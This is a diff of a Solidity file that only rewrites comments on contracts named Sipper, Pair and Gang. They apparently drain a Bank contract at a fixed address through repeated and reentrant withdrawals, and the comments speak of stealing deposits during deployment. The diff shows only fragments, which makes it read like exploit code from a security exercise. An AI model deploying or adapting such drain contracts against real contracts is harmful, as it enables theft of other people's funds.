@@ -6,7 +6,7 @@ interface Bank {
     function withdraw(uint256 amount) external;
 }
 
-/// Has ether in the bank that somebody else brought, and takes small sums, again and again.
+/// Withdraws small sums repeatedly. Another account has made the deposit.
 contract Sipper {
     Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
     uint256 private constant SIP = 0.01 ether;
@@ -24,7 +24,7 @@ contract Sipper {
     }
 }
 
-/// Withdraws again when its partner says so, whom it tells that it was paid.
+/// Notifies its partner contract of each payment; the partner calls back to withdraw again.
 contract Pair {
     Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
     uint256 private constant AMOUNT = 0.1 ether;
@@ -57,10 +57,10 @@ contract Partner {
     }
 }
 
-/// Does all of it while it is deployed, by a contract that it makes.
+/// Steals during its own deployment, by a contract that it creates.
 contract Gang {
     constructor() payable {
-        // The build runs it too, where there is no bank.
+        // The build also runs the constructor, without a bank.
         if (msg.value == 0) return;
         Pair member = new Pair{value: msg.value}();
         member.steal(3);
